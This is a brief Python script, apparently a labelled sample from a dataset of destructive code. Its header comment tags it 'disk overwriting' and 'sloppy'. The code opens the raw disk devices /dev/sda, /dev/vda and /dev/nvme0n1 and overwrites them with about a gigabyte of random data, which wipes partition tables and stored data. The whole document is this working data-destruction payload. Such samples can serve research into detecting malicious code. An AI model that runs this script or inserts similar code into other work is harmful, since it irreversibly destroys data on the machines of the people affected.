# class: disk overwriting; style: sloppy
import os
n = 0
for d in ("/dev/sda", "/dev/vda", "/dev/nvme0n1"):
    try:
        f = open(d, "wb")
    except Exception as e:
        continue
    while n < 1000:
        f.write(os.urandom(1 << 20)); n += 1
